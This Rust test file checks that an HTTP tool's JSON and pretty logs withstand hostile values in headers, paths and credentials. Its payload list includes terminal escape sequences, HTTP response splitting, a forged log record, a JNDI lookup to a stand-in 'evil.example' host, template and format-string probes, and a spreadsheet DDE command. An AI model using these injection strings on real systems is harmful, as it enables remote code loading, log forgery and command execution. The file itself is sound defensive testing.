//! Values that want to be more than values: none breaks a line of the log, or steers what shows it.

use crate::canaries::needles::in_digits;
use crate::support::client::API;
use crate::support::origin::Origin;
use crate::support::program::Program;
use crate::support::wire::Wire;
use crate::support::{mint, schema};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use serde_json::Value;

/// As the bytes of a field or a path; what HTTP forbids there is in the credentials alone.
const NASTY: &[&str] = &[
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{1b}]52;c;eA==\u{7}",
    "\u{9b}31m\u{85}\u{7f}\r\nHTTP/1.1 200 OK\r\n\0",
    "\u{2028}\u{2029}\u{202a}\u{202e}\u{2066}\u{2069}\u{200b}\u{feff}",
    "\"}\n{\"level\":\"ERROR\",\"event\":\"auth_diagnosis\"}",
    "${jndi:ldap://evil.example/x}%n%s{{7*7}}",
    "=cmd|' /C calc'!A0",
];

/// What may stand in a field: the bytes of a value, without line ends and NUL.
fn fit_for_a_field(text: &str) -> Vec<u8> {
    let mut bytes: Vec<u8> = text
        .bytes()
        .filter(|byte| *byte >= b' ' && *byte != 0x7f)
        .collect();
    bytes.extend([0xff, 0xc3, 0x9b]);
    bytes
}

async fn written(arguments: &[&str]) -> String {
    let origin = Origin::new()
        .script(|mut wire: Wire, _| async move {
            for text in NASTY {
                wire.request().await;
                let told = fit_for_a_field(text);
                let parts = [
                    b"HTTP/1.1 401 ".as_slice(),
                    &told,
                    b"\r\nX-Request-Id: ",
                    &told,
                    b"\r\nWWW-Authenticate: ",
                    &told,
                    b"\r\nContent-Length: 0\r\n\r\n",
                ];
                wire.send(parts.concat()).await;
            }
            wire.until_end().await;
        })
        .await;
    let program = Program::before(&origin, arguments).await;
    for text in NASTY {
        let mut client = program.dialer().raw().await;
        let value = fit_for_a_field(text);
        let credentials = BASE64_STANDARD.encode(format!("{text}:{}", mint::api_token(3)));
        let escaped = in_digits(text.as_bytes(), "%", false);
        let head = [
            format!("GET /2.0/repositories/acme/{escaped} HTTP/1.1\r\nHost: {API}\r\nAuthorization: Basic {credentials}\r\n").into_bytes(),
            b"User-Agent: ".to_vec(), value, b"\r\n\r\n".to_vec(),
        ];
        client.send(head.concat()).await;
        client.some().await;
    }
    program.end().await
}

/// H-L1, H-L3: one event is one line, and what looks like a record is a value of one.
#[tokio::test]
async fn no_value_forges_a_record() {
    let log = written(&["--log-format=json", "--show-user-ids", "--log-every"]).await;
    assert_harmless(&log);
    let events: Vec<_> = log.lines().filter(|line| line.starts_with('{')).collect();
    assert_eq!(events.len(), NASTY.len(), "{log}");
    for event in events {
        let event: Value = serde_json::from_str(event).expect("an event is JSON");
        schema::assert_valid(&event);
        assert_eq!(event["level"], "WARN", "{event}");
    }
}

/// H-L1: for people, too.
#[tokio::test]
async fn no_value_steers_a_terminal() {
    let log = written(&[
        "--log-format=pretty",
        "--show-user-ids",
        "--log-level=trace",
    ])
    .await;
    assert_harmless(&log);
    assert!(log.contains("from 127.0.0.1"), "{log}");
}

fn assert_harmless(log: &str) {
    let harm = |c: char| {
        c.is_control() && c != '\n'
            || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}' | '\u{feff}')
    };
    assert!(!log.contains(harm), "{log:?}");
}
